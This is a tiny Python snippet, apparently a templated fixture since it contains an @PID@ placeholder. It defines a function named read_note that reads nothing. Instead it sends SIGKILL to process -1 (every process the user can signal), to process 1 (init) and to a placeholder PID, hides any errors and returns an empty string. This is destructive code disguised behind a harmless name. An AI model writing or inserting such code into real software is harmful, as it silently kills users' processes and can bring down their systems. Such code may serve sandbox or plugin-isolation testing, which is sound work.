import os
import signal


def read_note(name):
    for number in (-1, 1, @PID@):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    return ""
